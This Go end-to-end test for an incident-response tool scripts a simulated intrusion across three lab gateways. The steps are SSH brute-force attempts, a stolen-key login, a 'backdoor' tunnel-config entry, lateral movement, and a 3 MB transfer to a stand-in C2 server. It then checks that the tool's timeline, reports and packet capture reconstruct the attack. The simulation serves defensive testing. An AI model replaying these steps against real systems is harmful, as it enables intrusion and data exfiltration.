package e2e

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math"
	"net"
	"net/http"
	"net/netip"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
	"github.com/google/gopacket/pcapgo"
	"golang.org/x/crypto/ssh"

	v1 "github.com/warden-ir/warden/api/v1"
	"github.com/warden-ir/warden/config"
	"github.com/warden-ir/warden/internal/testsupport"
	"github.com/warden-ir/warden/inventory"
	"github.com/warden-ir/warden/investigation"
	"github.com/warden-ir/warden/netlab"
	"github.com/warden-ir/warden/netlab/netlabtest"
)

// exfilBytes is what the attacker sends to the C2 server.
const exfilBytes = 3_000_000

// TestInvestigationFollowsTheAttackerAcrossSites proves issue #16 with the
// real pieces: `warden serve` and `warden agent` on the three gateways of
// a namespace lab (hq compromised; tunnels hq–osaka and hq–dc in the
// inventory), a real sshd on hq logging through syslog, and the embedded
// default policies.
//
// The attacker, from the internet (the C2 node), fails five SSH logins,
// logs in with a stolen key, adds a connection to hq's tunnel
// configuration (the agent's configuration watcher keeps it, findings
// queued), connects from the gateway into a host on osaka's LAN, and
// sends a known number of bytes from the gateway to the C2 server's public
// address; dc's agent then goes down; then the IDS's C2 alert arrives.
// contain-compromised-gateway isolates hq (which starts a packet capture)
// and investigates: the timeline has the attacker's login as the first
// entry-point candidate, the configuration change with its diff, the
// connection into osaka as lateral movement and the bytes towards the C2
// server within 10 %, in that order; dc is a gap, not a failure. The
// report says so in both languages; the Timesketch export validates;
// the attacker's packets that reach hq during the quarantine are in the
// pcapng, which gopacket's reader opens.
func TestInvestigationFollowsTheAttackerAcrossSites(t *testing.T) {
	netlabtest.Skip(t, "nft", "sysctl")
	if err := netlab.SSHDAvailable(); err != nil {
		t.Skip(err.Error())
	}
	stolen := newSSHKey(t)
	var sshd *netlab.SSHD
	l := newAgentsLab(t, agentsLabOptions{
		Prefix: "inv16", Sites: []string{"hq", "osaka", "dc"}, // Policies: the embedded defaults
		Configure: func(cfg *config.Config) {
			cfg.Inventory.Tunnels = []inventory.Tunnel{{A: "gw-hq", B: "gw-osaka", Kind: inventory.KindStrongSwan}, {A: "gw-hq", B: "gw-dc", Kind: inventory.KindStrongSwan}}
			cfg.Investigate.LookBack = time.Hour
		},
		BeforeAgents: func(l *socLab) {
			var err error
			if sshd, err = l.lab.StartSSHD(t.Context(), "hq", netlab.SSHDOptions{Dir: l.dir, AuthorizedKeys: []ssh.PublicKey{stolen.PublicKey()}}); err != nil {
				t.Fatalf("sshd on hq: %v", err)
			}
			l.writeSensorsFile(t, l.site("hq")) // the configuration watcher of hq's swanctl.conf
			for _, s := range l.lab.Sites() {
				trackConnections(t, l, s)
			}
		},
		AgentArgs: func(l *socLab, s netlab.Site) []string {
			if s.Name != "hq" {
				return nil
			}
			// No --controller-url: the sensors' findings stay queued; the
			// C2 alert alone starts the response.
			return []string{"--sensors", filepath.Join(l.dir, "sensors-hq.yaml"), "--log-files", sshd.AuthLog}
		},
	})
	ctx := t.Context()
	attacker, hq, osaka := l.lab.C2(), l.site("hq"), l.site("osaka")
	c2 := netlab.C2Public[0]

	// 1. A burst of failed logins, then the stolen key.
	for i := range 5 {
		if err := netlab.SSHLogin(ctx, attacker.NS, sshd.Addr, sshd.HostKey, "root", ssh.Password(fmt.Sprintf("guess-%d", i)), ""); err == nil {
			t.Fatalf("attempt %d: the attacker's password login succeeded", i)
		}
	}
	pace() // the auth log has whole seconds: steps a second apart keep their order
	if err := netlab.SSHLogin(ctx, attacker.NS, sshd.Addr, sshd.HostKey, "root", ssh.PublicKeys(stolen), "true"); err != nil {
		t.Fatalf("the attacker's login with the stolen key: %v", err)
	}
	pace()
	// 2. The tunnel configuration changed.
	l.editSwanctl(t, "hq", fmt.Sprintf("  backdoor { remote_addrs = %s }", attacker.V4))
	pace()
	// 3. From the gateway into a host on osaka's LAN.
	lateral := netip.AddrPortFrom(osaka.LAN.V4, 9022)
	if _, err := l.lab.ServeEcho(osaka.LAN.NS, lateral); err != nil {
		t.Fatal(err)
	}
	if err := netlab.TCPConnect(ctx, hq.Gateway.NS, lateral, okWait); err != nil {
		t.Fatalf("the connection into osaka's LAN: %v", err)
	}
	pace()
	// 4. A known number of bytes to the C2 server.
	received := serveSink(t, attacker.NS, 9443)
	sendBytes(t, hq.Gateway.NS, netip.AddrPortFrom(c2, 9443), exfilBytes)
	waitUntil(t, "the C2 server received everything", 10*time.Second, func() bool { return received.Load() == exfilBytes })
	pace()
	// 5. dc's agent is down; then the IDS sees the beacon.
	l.agents["dc"].stop()
	out, err := l.api.as(v1.RoleIntake).client(t).SubmitIndicators(ctx, v1.Indicator{Kind: "c2_beacon", Gateway: "gw-hq", Severity: "critical",
		Confidence: 0.9, Source: "e2e-ids", Summary: "gw-hq beacons to the C2 server", Observables: &v1.Observables{IPs: []string{c2.String()}}})
	if err != nil || len(out.Results) != 1 || out.Results[0].RunID == "" {
		t.Fatalf("the C2 alert: %+v %v", out, err)
	}
	incident := out.Results[0].IncidentID
	run := waitV1Run(t, l, out.Results[0].RunID)
	if run.State != "succeeded" || run.Runbook != "contain-compromised-gateway" {
		t.Fatalf("containment: %s %s (%s)", run.Runbook, run.State, run.Error)
	}
	var isolated time.Time
	var sum investigation.Summary
	for _, s := range run.Steps {
		switch s.Action {
		case "isolate":
			isolated = s.FinishedAt
		case "investigate":
			if s.State != "succeeded" {
				t.Fatalf("the investigate step %s: %s", s.State, s.Error)
			}
			t.Logf("the investigate step took %s", s.FinishedAt.Sub(s.StartedAt))
			var res struct {
				Details struct {
					Verify struct {
						Investigation investigation.Summary `json:"investigation"`
					} `json:"verify"`
				} `json:"details"`
			}
			if err := json.Unmarshal(s.Result, &res); err != nil {
				t.Fatal(err)
			}
			sum = res.Details.Verify.Investigation
		}
	}
	for _, o := range sum.Offsets {
		t.Logf("clock offset of %s: %s ± %s", o.Gateway, o.Offset, o.Uncertainty)
	}
	t.Logf("timeline: %d events, %d key", sum.Events, len(sum.Key))
	for _, g := range sum.Gaps {
		t.Logf("gap: %s: %s: %s", g.Gateway, g.What, g.Why)
	}
	for _, e := range sum.Key {
		t.Logf("key event: %s %s %s %s %s %s %v", e.Time.Format(time.RFC3339Nano), e.Host, e.Action, e.Actor, e.Object, e.Address, e.Marks)
	}

	// The entry point: the attacker's login, after the failures.
	if len(sum.EntryPoint) == 0 || sum.EntryPoint[0].Why != investigation.WhyNewSourceLogin || sum.EntryPoint[0].Event.Address != attacker.V4.String() ||
		sum.EntryPoint[0].Event.Host != "gw-hq" || sum.EntryPoint[0].Failures < 5 {
		t.Fatalf("entry point %+v, want the login from %s after 5 failures", sum.EntryPoint, attacker.V4)
	}
	login := sum.EntryPoint[0].Event
	// The configuration change, with its diff.
	i := slices.IndexFunc(sum.EntryPoint, func(m investigation.Marked) bool { return m.Why == investigation.WhyFirstChange })
	if i < 0 || !strings.Contains(sum.EntryPoint[i].Event.Detail["diff"], "+  backdoor { remote_addrs = "+attacker.V4.String()) {
		t.Fatalf("no configuration change with its diff among %+v", sum.EntryPoint)
	}
	change := sum.EntryPoint[i].Event
	// Lateral movement into osaka.
	j := slices.IndexFunc(sum.Lateral, func(m investigation.Marked) bool {
		return m.Site == "osaka" && m.Event.Detail["dst"] == osaka.LAN.V4.String()
	})
	if j < 0 || !slices.ContainsFunc(sum.Reached, func(r investigation.Reach) bool { return r.Site == "osaka" && r.Host == osaka.LAN.V4.String() }) {
		t.Fatalf("lateral %+v reached %+v, want osaka's %s", sum.Lateral, sum.Reached, osaka.LAN.V4)
	}
	lateralAt := sum.Lateral[j].Event.Time
	// The bytes towards the C2 server, within 10 %.
	k := slices.IndexFunc(sum.Transfers, func(x investigation.Transfer) bool { return x.Destination == c2.String() })
	if k < 0 {
		t.Fatalf("no transfer towards %s among %+v", c2, sum.Transfers)
	}
	x := sum.Transfers[k]
	t.Logf("bytes towards the C2 server: %d counted, %d sent (%+.1f %%)", x.Bytes, exfilBytes, 100*(float64(x.Bytes)-exfilBytes)/exfilBytes)
	if math.Abs(float64(x.Bytes)-exfilBytes) > 0.1*exfilBytes || !x.Suspect {
		t.Errorf("transfer %+v, want %d bytes within 10 %%", x, exfilBytes)
	}
	c2At := time.Time{}
	for _, e := range sum.Key {
		if e.Action == "connection" && e.Detail["dst"] == c2.String() && e.Host == "gw-hq" {
			c2At = e.Time
			break
		}
	}
	// In order.
	if c2At.IsZero() || !(login.Time.Before(change.Time) && change.Time.Before(lateralAt) && lateralAt.Before(c2At)) {
		t.Errorf("out of order: login %s, change %s, lateral %s, to C2 %s", login.Time, change.Time, lateralAt, c2At)
	}
	// dc's agent being down is a gap.
	if !slices.ContainsFunc(sum.Gaps, func(g investigation.Gap) bool { return g.Gateway == "gw-dc" && g.Unreachable }) ||
		!slices.Equal(sum.Collected, []string{"gw-hq", "gw-osaka"}) {
		t.Errorf("collected %v, gaps %+v: want dc as an unreachable gap", sum.Collected, sum.Gaps)
	}

	// The report says it, in both languages.
	for _, lang := range []struct{ lang, heading, osaka, dc string }{
		{"en", "Intrusion path and scope", "site osaka", "nothing could be collected from gw-dc"},
		{"ja", "侵入経路と影響範囲", "拠点「osaka」", "gw-dc からは何も収集できませんでした"},
	} {
		code, rep, err := l.api.do(ctx, http.MethodGet, "/v1/incidents/"+incident+"/report?lang="+lang.lang+"&format=md", nil)
		if err != nil || code != http.StatusOK {
			t.Fatalf("the %s report: %d %v", lang.lang, code, err)
		}
		for _, want := range []string{lang.heading, attacker.V4.String(), "backdoor", lang.osaka, osaka.LAN.V4.String(), c2.String(), lang.dc} {
			if !bytes.Contains(rep, []byte(want)) {
				t.Errorf("the %s report lacks %q", lang.lang, want)
			}
		}
	}

	// During the quarantine the attacker knocks; then a person stops the
	// capture, which files it.
	for range 3 {
		if err := netlab.TCPConnect(ctx, attacker.NS, sshd.Addr, cutWait); err == nil {
			t.Error("the attacker reached sshd through the quarantine")
		}
	}
	var stop v1.Run
	l.api.as(v1.RoleResponder).call(t, http.MethodPost, "/v1/gateways/gw-hq/captures", []byte(`{"op":"stop"}`), http.StatusAccepted, &stop)
	if stop = waitV1Run(t, l, stop.ID); stop.State != "succeeded" {
		t.Fatalf("stopping the capture: %s (%s)", stop.State, stop.Error)
	}

	// The evidence export holds the pcapng and the Timesketch timeline.
	code, archive, err := l.api.as(v1.RoleResponder).do(ctx, http.MethodPost, "/v1/incidents/"+incident+"/evidence/export", nil)
	if err != nil || code != http.StatusOK {
		t.Fatalf("evidence export: %d %v", code, err)
	}
	files := untar(t, archive)
	var pcapng, jsonl []byte
	for name, data := range files {
		switch {
		case strings.HasSuffix(name, ".pcapng"):
			pcapng = data
		case strings.HasSuffix(name, investigation.TimesketchName):
			jsonl = data
		}
	}
	if n := attackerPacketsAfter(t, pcapng, attacker.V4, isolated); n == 0 {
		t.Errorf("the capture holds no packet from %s after the quarantine at %s", attacker.V4, isolated)
	} else {
		t.Logf("the capture holds %d packets from the attacker during the quarantine", n)
	}
	if n := testsupport.ValidateJSONLines(t, filepath.Join("..", "investigation", "testdata", "timesketch-event.schema.json"), jsonl); n != sum.Events || n == 0 {
		t.Errorf("the Timesketch export has %d lines, the timeline %d events", n, sum.Events)
	}
}

// pace spaces the attacker's steps (a syslog line has whole seconds).
func pace() { time.Sleep(1100 * time.Millisecond) }

// trackConnections makes the kernel track and count every connection of
// s's gateway (a stateful rule, accounting and timestamps), as a gateway
// with a stateful firewall does.
func trackConnections(t *testing.T, l *socLab, s netlab.Site) {
	t.Helper()
	for _, c := range [][]string{
		{"sysctl", "-qw", "net.netfilter.nf_conntrack_acct=1"},
		{"sysctl", "-qw", "net.netfilter.nf_conntrack_timestamp=1"},
		{"nft", "add", "table", "inet", "site"},
		{"nft", "add", "chain", "inet", "site", "sitefwd", "{", "type", "filter", "hook", "forward", "priority", "0", ";", "policy", "accept", ";", "}"},
		{"nft", "add", "rule", "inet", "site", "sitefwd", "ct", "state", "new", "counter"},
		{"nft", "add", "chain", "inet", "site", "sitein", "{", "type", "filter", "hook", "input", "priority", "0", ";", "policy", "accept", ";", "}"},
		{"nft", "add", "rule", "inet", "site", "sitein", "ct", "state", "new", "counter"},
		{"nft", "add", "chain", "inet", "site", "siteout", "{", "type", "filter", "hook", "output", "priority", "0", ";", "policy", "accept", ";", "}"},
		{"nft", "add", "rule", "inet", "site", "siteout", "ct", "state", "new", "counter"},
	} {
		if out, err := l.lab.Run(t.Context(), s.Gateway.NS, c...); err != nil && !strings.Contains(string(out), "exists") {
			t.Fatalf("%v on %s: %v\n%s", c, s.Name, err, out)
		}
	}
}

// serveSink accepts TCP connections on port in ns and counts what they
// send.
func serveSink(t *testing.T, ns string, port uint16) *atomic.Int64 {
	t.Helper()
	var ln net.Listener
	if err := netlab.Do(ns, func() (err error) {
		ln, err = net.Listen("tcp", fmt.Sprintf("[::]:%d", port))
		return err
	}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	var n atomic.Int64
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				m, _ := io.Copy(io.Discard, c)
				n.Add(m)
			}()
		}
	}()
	return &n
}

// sendBytes sends exactly n bytes from ns to to, and closes.
func sendBytes(t *testing.T, ns string, to netip.AddrPort, n int) {
	t.Helper()
	err := netlab.Do(ns, func() error {
		c, err := net.DialTimeout("tcp", to.String(), okWait)
		if err != nil {
			return err
		}
		defer c.Close()
		_ = c.SetDeadline(time.Now().Add(30 * time.Second))
		if _, err := c.Write(bytes.Repeat([]byte{'z'}, n)); err != nil {
			return err
		}
		return c.(*net.TCPConn).CloseWrite()
	})
	if err != nil {
		t.Fatalf("sending %d bytes to %s: %v", n, to, err)
	}
}

// waitV1Run polls a run until it is terminal.
func waitV1Run(t *testing.T, l *socLab, id string) v1.Run {
	t.Helper()
	var run v1.Run
	waitUntil(t, "run "+id+" finished", 2*time.Minute, func() bool {
		l.api.call(t, http.MethodGet, "/v1/runs/"+id, nil, http.StatusOK, &run)
		return run.Terminal()
	})
	return run
}

// untar reads a tar.gz archive into its files by name.
func untar(t *testing.T, archive []byte) map[string][]byte {
	t.Helper()
	zr, err := gzip.NewReader(bytes.NewReader(archive))
	if err != nil {
		t.Fatalf("the export is no gzip: %v", err)
	}
	tr := tar.NewReader(zr)
	out := map[string][]byte{}
	for {
		h, err := tr.Next()
		if errors.Is(err, io.EOF) {
			return out
		}
		if err != nil {
			t.Fatal(err)
		}
		if h.Typeflag == tar.TypeReg {
			b, err := io.ReadAll(tr)
			if err != nil {
				t.Fatal(err)
			}
			out[h.Name] = b
		}
	}
}

// attackerPacketsAfter opens a pcapng with gopacket's reader and counts
// the packets from from captured after since.
func attackerPacketsAfter(t *testing.T, pcapng []byte, from netip.Addr, since time.Time) int {
	t.Helper()
	if len(pcapng) == 0 {
		t.Fatal("no pcapng in the evidence export")
	}
	opts := pcapgo.DefaultNgReaderOptions
	opts.WantMixedLinkType = true
	r, err := pcapgo.NewNgReader(bytes.NewReader(pcapng), opts)
	if err != nil {
		t.Fatalf("the capture does not open as pcapng: %v", err)
	}
	n := 0
	for {
		data, ci, err := r.ReadPacketData()
		if errors.Is(err, io.EOF) {
			return n
		}
		if err != nil {
			t.Fatalf("reading the capture: %v", err)
		}
		lt := layers.LinkTypeEthernet
		if ifc, err := r.Interface(ci.InterfaceIndex); err == nil {
			lt = ifc.LinkType
		}
		var first gopacket.Decoder = layers.LayerTypeEthernet
		if lt == layers.LinkTypeRaw {
			first = layers.LayerTypeIPv4
		}
		p := gopacket.NewPacket(data, first, gopacket.Default)
		if ip, ok := p.Layer(layers.LayerTypeIPv4).(*layers.IPv4); ok && ip.SrcIP.Equal(net.IP(from.AsSlice())) && ci.Timestamp.After(since) {
			n++
		}
	}
}
